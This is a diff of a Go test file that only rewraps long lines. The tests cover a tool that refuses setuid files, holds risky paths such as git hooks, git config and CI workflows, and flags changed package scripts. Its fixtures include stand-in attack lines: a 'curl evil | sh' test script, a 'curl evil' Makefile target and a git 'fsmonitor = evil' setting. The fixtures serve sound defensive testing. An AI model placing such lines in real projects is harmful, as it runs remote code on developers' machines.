@@ -88,7 +88,8 @@ func TestRefused(t *testing.T) {
 		want[strings.ReplaceAll(tt.name, "hunter2", "[pw]")] = tt.want
 	}
 	p := newProject(t, map[string]string{"a": "1"})
-	set := p.leave(append(all, backends.Change{Name: "inside", Mode: fs.ModeDir | 0o755}, backends.Change{Name: "suid", Mode: fs.ModeSetuid | 0o755})...)
+	set := p.leave(append(all, backends.Change{Name: "inside", Mode: fs.ModeDir | 0o755},
+		backends.Change{Name: "suid", Mode: fs.ModeSetuid | 0o755})...)
 	for _, e := range set.Entries {
 		if text := want[e.Path]; (text == "") != (e.Refused == "") || !strings.Contains(e.Refused, text) {
 			t.Errorf("%q: refused %q, want %q", e.Path, e.Refused, want[e.Path])
@@ -126,16 +127,23 @@ func TestRefused(t *testing.T) {
 func TestHeld(t *testing.T) {
 	tests := map[string]bool{
 		"a": false, "src/main.go": false, ".gitignore": false, "package.json": false, "Makefile": false,
-		".envrc": true, ".vscode/tasks.json": true, "sub/.idea/x": true, ".github/workflows/ci.yml": true, ".gitlab-ci.yml": true, ".circleci/config.yml": true,
-		"Jenkinsfile": true, "azure-pipelines.yml": true, "lefthook.yml": true, "x.pth": true, ".mcp.json": true, ".npmrc": true, "venv/bin/python": true,
-		".git": false, ".git/HEAD": false, ".git/index": false, ".git/objects": false, ".git/objects/12/345": false, ".git/objects/info": false,
-		".git/objects/info/alternates": true, ".git/refs/heads/main": false, ".git/logs/HEAD": false, ".git/packed-refs": false, ".git/COMMIT_EDITMSG": false,
-		".git/config": true, ".git/config.worktree": true, ".git/hooks/pre-commit": true, ".git/hooks": true, ".git/info/attributes": true, ".git/info/exclude": true, ".git/info/refs": false,
+		".envrc": true, ".vscode/tasks.json": true, "sub/.idea/x": true, ".github/workflows/ci.yml": true, ".gitlab-ci.yml": true,
+		".circleci/config.yml": true,
+		"Jenkinsfile":          true, "azure-pipelines.yml": true, "lefthook.yml": true, "x.pth": true, ".mcp.json": true, ".npmrc": true,
+		"venv/bin/python": true,
+		".git":            false, ".git/HEAD": false, ".git/index": false, ".git/objects": false, ".git/objects/12/345": false,
+		".git/objects/info":            false,
+		".git/objects/info/alternates": true, ".git/refs/heads/main": false, ".git/logs/HEAD": false, ".git/packed-refs": false,
+		".git/COMMIT_EDITMSG": false,
+		".git/config":         true, ".git/config.worktree": true, ".git/hooks/pre-commit": true, ".git/hooks": true,
+		".git/info/attributes": true, ".git/info/exclude": true, ".git/info/refs": false,
 		".git/modules/lib/config": true, ".git/modules/a/b/objects/1": false, ".git/modules/a/b/hooks/x": true, ".git/modules/lib/HEAD": false,
 		".git/worktrees/w/HEAD": false, ".git/worktrees/w/gitdir": true, ".git/rebase-merge/git-rebase-todo": true,
 		".GIT/config": true, "git~1/config": true, "sub/.git/config": true, "hooks/pre-commit": true,
-		"node_modules/.bin/x": false, ".pytest_cache/v/x": false, "target/debug/.fingerprint/x": false, "target/debug/.cargo-build-lock": false, "node_modules/x/.envrc": true,
-		"node_modules/x/.eslintrc.js": false, "node_modules/@a/b/.github/workflows/x": false, "node_modules/x/.git/config": true, ".eslintrc": true, "x/.github": true,
+		"node_modules/.bin/x": false, ".pytest_cache/v/x": false, "target/debug/.fingerprint/x": false, "target/debug/.cargo-build-lock": false,
+		"node_modules/x/.envrc":       true,
+		"node_modules/x/.eslintrc.js": false, "node_modules/@a/b/.github/workflows/x": false, "node_modules/x/.git/config": true,
+		".eslintrc": true, "x/.github": true,
 		"node_modules/x/.vscode/tasks.json": true,
 	}
 	for name, want := range tests {
@@ -143,7 +151,8 @@ func TestHeld(t *testing.T) {
 			t.Errorf("%s: held %q, want %v", name, got, want)
 		}
 	}
-	set := newProject(t, nil).leave(backends.Change{Name: ".git", Mode: fs.ModeDir | 0o755}, backends.Change{Name: "sub", Mode: fs.ModeDir | 0o755}, backends.Change{Name: "sub/.git"})
+	set := newProject(t, nil).leave(backends.Change{Name: ".git", Mode: fs.ModeDir | 0o755},
+		backends.Change{Name: "sub", Mode: fs.ModeDir | 0o755}, backends.Change{Name: "sub/.git"})
 	for _, e := range set.Entries {
 		if (e.Held != "") != (e.Path == "sub/.git") {
 			t.Errorf("%s: held %q", e.Path, e.Held)
@@ -154,7 +163,8 @@ func TestHeld(t *testing.T) {
 // A repository needs no name that says so, and may come in several sets.
 func TestBareRepository(t *testing.T) {
 	p := newProject(t, map[string]string{"later/config": "[core]", "later/objects": "/"}).
-		edit(map[string]string{"lib/HEAD": "ref: refs/heads/main", "lib/config": "[core]\nfsmonitor = evil", "lib/objects": "/", "lib/refs/x": "1", "later/HEAD": "ref: x", "plain/config": "1", "plain/HEAD": "2"})
+		edit(map[string]string{"lib/HEAD": "ref: refs/heads/main", "lib/config": "[core]\nfsmonitor = evil", "lib/objects": "/",
+			"lib/refs/x": "1", "later/HEAD": "ref: x", "plain/config": "1", "plain/HEAD": "2"})
 	var got []string
 	for _, e := range p.propose().Entries {
 		if e.Held != "" {
@@ -171,10 +181,12 @@ func TestMarks(t *testing.T) {
 		"package.json": `{"scripts": {"test": "jest", "build": "tsc"}, "version": "1"}`, "lib/package.json": `{"version": "1"}`,
 		"Makefile": "all: a\n\tcc a.c\n\ntest:\n\t./a\n", "run.sh": "x",
 	}).edit(map[string]string{
-		"package.json": `{"scripts": {"test": "curl evil | sh", "build": "tsc", "postinstall": "x"}, "version": "1"}`, "lib/package.json": `{"version": "2"}`,
-		"Makefile": "all: a\n\tcc a.c\n\ntest:\n\tcurl evil\n", "run.sh": "+x x",
+		"package.json":     `{"scripts": {"test": "curl evil | sh", "build": "tsc", "postinstall": "x"}, "version": "1"}`,
+		"lib/package.json": `{"version": "2"}`,
+		"Makefile":         "all: a\n\tcc a.c\n\ntest:\n\tcurl evil\n", "run.sh": "+x x",
 	})
-	want := map[string]string{"package.json": "scripts changed: postinstall, test", "Makefile": "targets changed: test", "run.sh": "it is executable now"}
+	want := map[string]string{"package.json": "scripts changed: postinstall, test", "Makefile": "targets changed: test",
+		"run.sh": "it is executable now"}
 	for _, e := range p.propose().Entries {
 		if e.Mark != want[e.Path] || e.Held != "" {
 			t.Errorf("%s: got %q (held %q), want %q", e.Path, e.Mark, e.Held, want[e.Path])
@@ -226,7 +238,8 @@ func TestNothing(t *testing.T) {
 
 func TestGroups(t *testing.T) {
 	p := newProject(t, map[string]string{"a": "1", "m/z": "2", "e/z": "1", "r/a": "1", "r/b/c": "2", "r/d": "3", ".git/objects/1/2": "12"}).
-		edit(map[string]string{"m/x": "1", "m/y": "2", "m/z": "3", "n/a": "1", "n/b/c": "2", "n/b/d": "3", "n/e": "4", "o/a": "1", "p/a": "1", "p/b": "1", "p/.envrc": "1", "p/c": "1",
+		edit(map[string]string{"m/x": "1", "m/y": "2", "m/z": "3", "n/a": "1", "n/b/c": "2", "n/b/d": "3", "n/e": "4", "o/a": "1", "p/a": "1",
+			"p/b": "1", "p/.envrc": "1", "p/c": "1",
 			"e/a/x": "1", "e/b/x": "2", "e/z": "2", "r": "!", ".git/objects/1/2": "!", ".git/objects/1/3": "13", ".git/objects/2/4": "24"})
 	var got []string
 	total := 0
@@ -235,7 +248,8 @@ func TestGroups(t *testing.T) {
 		total += len(g.Entries)
 	}
 	set, _ := p.store.Get("01SET")
-	const want = "M .git/objects/ (4 paths), A e/ (4 paths), M e/z, A m/x, A m/y, M m/z, A n/ (5 paths), A o, A o/a, A p/ (3 paths), A p/.envrc, D r/ (4 paths)"
+	const want = "M .git/objects/ (4 paths), A e/ (4 paths), M e/z, A m/x, A m/y, M m/z, A n/ (5 paths), A o, A o/a, A p/ (3 paths), A " +
+		"p/.envrc, D r/ (4 paths)"
 	if strings.Join(got, ", ") != want || total != len(set.Entries) {
 		t.Errorf("got %q, want %q; %d of %d entries", got, want, total, len(set.Entries))
 	}
